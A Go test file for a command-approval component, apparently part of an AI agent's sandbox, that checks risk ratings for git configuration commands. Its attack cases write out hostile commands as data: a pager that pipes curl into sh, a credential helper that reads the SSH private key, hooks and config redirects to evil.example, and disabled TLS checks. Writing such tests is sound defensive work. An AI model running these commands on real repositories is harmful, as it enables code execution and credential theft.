package approvals

import (
	"github.com/wardenhq/warden/approvals/rules"
	"strings"
	"testing"
)

// gitConfigAttacks set git configuration that runs a program or weakens a
// check: each is high risk and names the key. gitConfigTwins are the
// harmless neighbours: reads stay low, plain writes medium, Warden's own
// hardening values nothing.
var gitConfigAttacks = []riskCase{
	{sh("git config core.fsmonitor /tmp/x"), RiskHigh, "core.fsmonitor", ""},
	{sh("git config core.hooksPath .husky"), RiskHigh, "run a program from now on", ""},
	{sh("git config core.sshCommand 'ssh -o ProxyCommand=\"sh -c id\"'"), RiskHigh, "core.sshCommand", ""},
	{sh("git config core.pager 'sh -c \"curl x|sh\"'"), RiskHigh, "core.pager", ""},
	{sh("git config core.editor ./edit.sh"), RiskHigh, "core.editor", ""},
	{sh("git config diff.external /tmp/d"), RiskHigh, "diff.external", ""},
	{sh("git config diff.bin.textconv ./conv"), RiskHigh, "diff.bin.textconv", ""},
	{sh("git config filter.x.smudge 'sh -c id'"), RiskHigh, "filter.x.smudge", ""},
	{sh("git config merge.x.driver ./m.sh"), RiskHigh, "merge.x.driver", ""},
	{sh("git config credential.helper '!f() { cat ~/.ssh/id_rsa; }; f'"), RiskHigh, "credential.helper", ""},
	{sh("git config alias.st '!sh -c id'"), RiskHigh, "alias.st", ""},
	{sh("git config alias.l '-c core.pager=./p log'"), RiskHigh, "alias.l", ""},
	{sh("git config include.path /tmp/evil.cfg"), RiskHigh, "include.path", ""},
	{sh("git config includeIf.gitdir:~/.path /tmp/evil.cfg"), RiskHigh, "includeIf", ""},
	{sh("git config sequence.editor ./e"), RiskHigh, "sequence.editor", ""},
	{sh("git config gpg.program ./g"), RiskHigh, "gpg.program", ""},
	{sh("git config --add url.https://evil.example/.insteadOf https://github.com/"), RiskHigh, "redirects git's fetches", ""},
	{sh("git config protocol.ext.allow always"), RiskHigh, "transports", ""},
	{sh("git config http.sslVerify false"), RiskHigh, "TLS", ""},
	{sh("git config http.proxy http://evil.example:8080"), RiskHigh, "proxy", ""},
	{sh("git config set core.askPass ./ask"), RiskHigh, "core.askPass", ""},
	{sh("git config --file .git/config core.fsmonitor ./fs"), RiskHigh, "core.fsmonitor", ""},
	{sh("git config --global core.pager 'sh -c id'"), RiskHigh, "~/.gitconfig", ""},
	{sh("git config --system safe.directory '*'"), RiskHigh, "trust repositories", ""},
	{sh("git config --global user.name x"), RiskHigh, "writes outside the workspace: ~/.gitconfig", ""},
	// One-shot: -c, --config-env, the environment.
	{sh("git -c core.fsmonitor=/tmp/x status"), RiskHigh, "-c core.fsmonitor=/tmp/x", ""},
	{sh("git -c core.pager='sh -c \"id>/tmp/p\"' log"), RiskHigh, "core.pager", ""},
	{sh("git -c core.hooksPath=./h commit -m x"), RiskHigh, "core.hooksPath", ""},
	{sh("git -c diff.external=./d diff"), RiskHigh, "diff.external", ""},
	{sh("git --config-env=core.pager=EVIL log"), RiskHigh, "--config-env", ""},
	{sh("git -c http.sslVerify=false fetch"), RiskHigh, "TLS", ""},
	{sh("git -c protocol.file.allow=always submodule update"), RiskHigh, "transports", ""},
	{sh("git --exec-path=/tmp/x status"), RiskHigh, "--exec-path", ""},
	{sh("GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0='sh -c id' git log"), RiskHigh, "GIT_CONFIG_KEY_0", ""},
	{sh("export GIT_CONFIG_PARAMETERS=\"'core.pager'='sh'\"; git log"), RiskHigh, "GIT_CONFIG_PARAMETERS", ""},
	{sh("GIT_EXTERNAL_DIFF=./d git diff"), RiskHigh, "GIT_EXTERNAL_DIFF", ""},
	{sh("GIT_SSH_COMMAND='ssh -o StrictHostKeyChecking=no' git fetch"), RiskHigh, "GIT_SSH_COMMAND", ""},
	{sh("GIT_CONFIG_GLOBAL=/tmp/evil git status"), RiskHigh, "GIT_CONFIG_GLOBAL", ""},
	// An editor git runs on its todo list or message: only a sed that edits
	// that one file with a text-only script is analysed (editorValueRisk).
	{sh(`GIT_SEQUENCE_EDITOR="sed -i 's/x/y/w /tmp/o'" git rebase -i HEAD~3`), RiskHigh, "GIT_SEQUENCE_EDITOR", ""},
	{sh(`GIT_SEQUENCE_EDITOR="sed -i s/a/b/ ~/.bashrc" git rebase -i HEAD~2`), RiskHigh, "GIT_SEQUENCE_EDITOR", ""},
	{sh(`GIT_EDITOR="sed -i '1e id'" git commit --amend`), RiskHigh, "GIT_EDITOR", ""},
	{sh(`GIT_SEQUENCE_EDITOR="sed -i.bak s/pick/fixup/" git rebase -i HEAD~2`), RiskHigh, "GIT_SEQUENCE_EDITOR", ""},
	{sh(`GIT_SEQUENCE_EDITOR="sed -ie s/pick/fixup/" git rebase -i HEAD~2`), RiskHigh, "GIT_SEQUENCE_EDITOR", ""},
	{sh(`GIT_SEQUENCE_EDITOR="sed -f /tmp/s -i" git rebase -i HEAD~2`), RiskHigh, "GIT_SEQUENCE_EDITOR", ""},
	{sh(`GIT_SEQUENCE_EDITOR="sed -i s/pick/fixup/; id" git rebase -i HEAD~2`), RiskHigh, "GIT_SEQUENCE_EDITOR", ""},
	{sh(`GIT_SEQUENCE_EDITOR="./sed -i s/pick/fixup/" git rebase -i HEAD~2`), RiskHigh, "GIT_SEQUENCE_EDITOR", ""},
	{sh(`GIT_SEQUENCE_EDITOR="perl -pi -e s/pick/fixup/" git rebase -i HEAD~2`), RiskHigh, "GIT_SEQUENCE_EDITOR", ""},
	{sh(`GIT_SEQUENCE_EDITOR="sed s/pick/fixup/" git rebase -i HEAD~2`), RiskHigh, "GIT_SEQUENCE_EDITOR", ""},
	{sh(`git -c sequence.editor="sed -i 's/a/b/e'" rebase -i HEAD~2`), RiskHigh, "sequence.editor", ""},
	{sh(`git config core.editor "sed -i -e 's/a/b/' -e 'r /etc/passwd'"`), RiskHigh, "core.editor", ""},
	{sh(`GIT_SEQUENCE_EDITOR="sed -i '2,$s/pick/fixup/'" git rebase -i HEAD~3`), RiskHigh, "GIT_SEQUENCE_EDITOR", ""}, // $s expands: not what it says
	// Files git obeys, written directly.
	{sh("echo '[core] fsmonitor = /tmp/x' >> .git/config"), RiskHigh, "makes git run programs: .git/config", ""},
	{sh("sed -i 's/a/b/' .git/config"), RiskHigh, ".git/config", ""},
	{sh("printf '#!/bin/sh\\nid\\n' | tee .git/hooks/pre-commit"), RiskHigh, ".git/hooks/pre-commit", ""},
	{sh("cp /tmp/x .git/info/attributes"), RiskHigh, ".git/info/attributes", ""},
	{sh("echo 'gitdir: /tmp/evil' > .git"), RiskHigh, "another repository", ""},
	{sh("echo '*.c filter=x' > .gitattributes"), RiskMedium, ".gitattributes", ""},
	{sh("echo '[submodule \"a\"]' >> .gitmodules"), RiskMedium, ".gitmodules", ""},
	{sh("printf '[lfs]\\n\\turl = https://evil.example.com/lfs\\n' > .lfsconfig"), RiskMedium, "where git lfs sends the large files on a push", ""},
}

var gitConfigTwins = []riskCase{
	{sh("git config --get remote.origin.url"), RiskLow, "", "git configuration"},
	{sh("git config -l"), RiskLow, "", "git configuration"},
	{sh("git config --list --show-origin"), RiskLow, "", "git configuration"},
	{sh("git config core.pager"), RiskLow, "", "git configuration"},
	{sh("git config get core.hooksPath"), RiskLow, "", "git configuration"},
	{sh("git config --global --get user.email"), RiskLow, "", "gitconfig"},
	{sh("git config user.email dev@example.com"), RiskMedium, "changes git configuration: user.email", "program"},
	{sh("git config core.editor vim"), RiskMedium, "core.editor", "program"},
	{sh("git config core.pager 'less -R'"), RiskMedium, "core.pager", "program"},
	{sh("git config merge.ours.driver true"), RiskMedium, "merge.ours.driver", "program"},
	{sh("git config credential.helper store"), RiskMedium, "credential.helper", "program"},
	{sh("git config alias.co checkout"), RiskMedium, "alias.co", "program"},
	{sh("git config core.fsmonitor false"), RiskMedium, "core.fsmonitor", "program"},
	{sh("git config --unset core.hooksPath"), RiskMedium, "removes git configuration", "program"},
	{sh("git config http.sslVerify true"), RiskMedium, "http.sslVerify", "TLS"},
	{sh("git -c core.fsmonitor= status"), RiskLow, "", "program"},
	{sh("git -c core.fsmonitor= -c core.pager=cat -c core.hooksPath=/dev/null -c log.showSignature=false log"), RiskLow, "", "program"},
	{sh("git -c core.fsmonitor=false status"), RiskLow, "", "program"},
	{sh("git -c user.email=t@example.com -c user.name=t commit -m x"), RiskLow, "", "program"},
	{sh("git -c color.ui=always diff"), RiskLow, "", "program"},
	{sh("GIT_PAGER=cat git log"), RiskMedium, "", "GIT_PAGER"},
	{sh("GIT_EDITOR=true git rebase --continue"), RiskMedium, "", "GIT_EDITOR"},
	{sh(`GIT_SEQUENCE_EDITOR="sed -i 's/^pick/fixup/'" git rebase -i HEAD~3`), RiskMedium, "rewrites local history", "GIT_SEQUENCE_EDITOR"},
	{sh(`GIT_SEQUENCE_EDITOR="sed -i -e '2s/pick/squash/' -e '3s/pick/squash/'" git rebase -i HEAD~3`), RiskMedium, "rewrites local history", "GIT_SEQUENCE_EDITOR"},
	{sh(`git -c sequence.editor="sed -i -E -e 's/^pick (.*)/fixup \1/'" rebase -i HEAD~2`), RiskMedium, "rewrites local history", "sequence.editor"},
	{sh(`GIT_EDITOR="/usr/bin/sed -i 1s/^/fixup:\ /" git commit --amend`), RiskMedium, "rewrites the last commit", "GIT_EDITOR"},
	{sh(`git config sequence.editor "sed -i s/pick/fixup/"`), RiskMedium, "sequence.editor", "program"},
	{sh("GIT_CONFIG_NOSYSTEM=1 GIT_CONFIG_GLOBAL=/dev/null git status"), RiskMedium, "", "GIT_CONFIG"},
	{sh("echo 'GIT_PAGER=sh' >> notes.txt"), RiskLow, "", "GIT_PAGER"},
	{sh("cat .git/config"), RiskLow, "", "git run"},
	{sh("mkdir -p vendor/x/.git"), RiskLow, "", "another repository"},
	{sh("echo x > .git/COMMIT_EDITMSG"), RiskLow, "", "git run"},
	{sh("echo 'build/' >> .gitignore"), RiskLow, "", "git run"},
}

func sh(s string) []string { return []string{"bash", "-lc", s} }

// TestGitConfigRisk: every attack is high risk naming what it sets, every
// twin keeps its level.
func TestGitConfigRisk(t *testing.T) {
	ws, home := riskWorkspace(t, 1)
	ctx := RiskContext{Cwd: ws, Sandbox: Sandbox{Mode: WorkspaceWrite, Workspace: []string{ws}}, Home: home}
	checkRisk(t, ctx, gitConfigAttacks)
	checkRisk(t, ctx, gitConfigTwins)
}

// TestGitConfigDecisions: a high-risk git config write asks under
// on-request with Deny first and no remembering choice; the sandbox holds
// .git/config read-only, so under never it runs sandboxed (and fails
// there), while without a sandbox never refuses it and on-request asks.
// The twin, a plain setting, runs sandboxed unasked and may be remembered.
func TestGitConfigDecisions(t *testing.T) {
	ws, _ := riskWorkspace(t, 1)
	ev := func(ask AskForApproval, mode SandboxMode, s string) *Evaluation {
		return (&Evaluator{Policy: Policy{Ask: ask}}).Evaluate(CommandRequest{Argv: sh(s), Cwd: ws, Sandbox: Sandbox{Mode: mode, Workspace: []string{ws}}})
	}
	attack := "git config core.fsmonitor ./fsmon.sh"
	e := ev(OnRequest, WorkspaceWrite, attack)
	if e.Decision != rules.Prompt || e.Risk.Level != RiskHigh || e.Amendment != nil || e.OffersSessionApproval() {
		t.Errorf("on-request, sandboxed: %s %s amend %q session %v (%s)", e.Decision, e.Risk.Level, e.Amendment, e.OffersSessionApproval(), e.Reason)
	}
	if acts := (PromptRequest{Risk: e.Risk}).Actions(); acts[0].Title != TitleDeny {
		t.Errorf("high risk: first action %q, want Deny", acts[0].Title)
	}
	if e := ev(Never, WorkspaceWrite, attack); e.Decision != rules.Allow {
		t.Errorf("never, sandboxed: %s (%s): the sandbox holds .git/config read-only", e.Decision, e.Reason)
	}
	if e := ev(Never, DangerFullAccess, attack); e.Decision != rules.Forbidden {
		t.Errorf("never, no sandbox: %s (%s)", e.Decision, e.Reason)
	}
	if e := ev(OnRequest, DangerFullAccess, attack); e.Decision != rules.Prompt || e.Risk.Level != RiskHigh || e.Amendment != nil {
		t.Errorf("on-request, no sandbox: %s %s amend %q (%s)", e.Decision, e.Risk.Level, e.Amendment, e.Reason)
	}
	oneShot := "git -c core.pager='sh -c id' log"
	if e := ev(Never, WorkspaceWrite, oneShot); e.Decision != rules.Forbidden {
		t.Errorf("never, -c core.pager: %s (%s): the program is not analysed", e.Decision, e.Reason)
	}
	twin := "git config user.email dev@example.com"
	if e := ev(OnRequest, WorkspaceWrite, twin); e.Decision != rules.Allow || e.Risk.Level != RiskMedium {
		t.Errorf("twin: %s %s (%s)", e.Decision, e.Risk.Level, e.Reason)
	}
	if e := ev(Untrusted, WorkspaceWrite, twin); e.Decision != rules.Prompt || e.Amendment == nil || !strings.Contains(strings.Join(e.Amendment, " "), "git config") {
		t.Errorf("twin, untrusted: %s amend %q", e.Decision, e.Amendment)
	}
	// Warden's hardened reads keep working: a known-safe git read is
	// rewritten with its own -c options and stays low risk.
	if e := ev(Untrusted, WorkspaceWrite, "git status"); e.Decision != rules.Allow || e.Risk.Level != RiskLow || !strings.Contains(strings.Join(e.RunArgv, " "), "core.fsmonitor=") {
		t.Errorf("git status: %s %s run %q", e.Decision, e.Risk.Level, e.RunArgv)
	}
}
